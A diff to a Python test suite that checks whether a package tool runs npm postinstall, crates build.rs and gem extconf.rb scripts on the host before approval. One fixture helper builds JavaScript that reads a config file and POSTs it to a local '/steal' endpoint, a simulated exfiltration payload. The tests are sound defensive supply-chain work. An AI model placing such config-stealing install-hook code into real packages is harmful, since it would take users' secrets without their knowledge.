@@ -66,7 +66,7 @@ def npm_thief(marker: Path, config: Path, port: int) -> str:
         "let data = 'nothing';\n"
         f"try {{ data = fs.readFileSync({json.dumps(str(config))}, 'utf8'); }} catch (e) {{}}\n"
         f"const req = http.request({{host: '127.0.0.1', port: {port}, path: '/steal', "
-        "method: 'POST'}, () => {});\n"
+        "method: 'POST'}, (res) => res.resume());\n"
         "req.on('error', () => {}); req.end(data);\n"
     )
 
@@ -91,12 +91,12 @@ def test_an_npm_postinstall_does_not_run_on_the_host_before_approval(
         )
     )
     cp = t.ctl("create", "fmtq", "--from", "npm:fmtq", "--json")
+    assert not marker.exists(), "the postinstall ran on the host"
+    assert stolen(exfil) == [], "the postinstall reached the network"
     assert cp.returncode == 0, cp.stderr
     res = json.loads(cp.stdout)
     assert res["validation"]["status"] == "passed", res["validation"]
     assert "container" in res["validation"]["image"]
-    assert not marker.exists(), "the postinstall ran on the host"
-    assert stolen(exfil) == [], "the postinstall reached the network"
     assert not (t.home / "recipes" / "fmtq.toml").exists()  # nothing approved, nothing written
     assert not (t.home / "validate").exists() or not any((t.home / "validate").iterdir())
 
@@ -138,9 +138,9 @@ def test_a_crates_build_rs_does_not_run_on_the_host_before_approval(
     build_rs = f'fn main() {{ let _ = std::fs::write({json.dumps(str(marker))}, "ran"); }}\n'
     crates.publish(crate("fmtr", "0.1.0", {"fmtr": "fmtr 0.1.0"}, build_rs=build_rs))
     cp = t.ctl("create", "fmtr", "--from", "crates:fmtr", "--json")
-    assert cp.returncode == 0, cp.stderr
-    assert json.loads(cp.stdout)["validation"]["status"] == "passed"
     assert not marker.exists(), "build.rs ran on the host"
+    assert cp.returncode == 0, cp.stderr
+    assert json.loads(cp.stdout)["validation"]["status"] == "passed", cp.stdout
 
 
 def gem_thief(marker: Path, config: Path, port: int, persist: Path | None = None) -> str:
@@ -181,10 +181,10 @@ def test_a_gems_extconf_does_not_run_on_the_host_before_approval(
         )
     )
     cp = t.ctl("create", "fmtg", "--from", "rubygems:fmtg", "--json")
-    assert cp.returncode == 0, cp.stderr
-    assert json.loads(cp.stdout)["validation"]["status"] == "passed"
     assert not marker.exists(), "extconf.rb ran on the host"
     assert stolen(exfil) == []
+    assert cp.returncode == 0, cp.stderr
+    assert json.loads(cp.stdout)["validation"]["status"] == "passed", cp.stdout
 
 
 @needs_gem
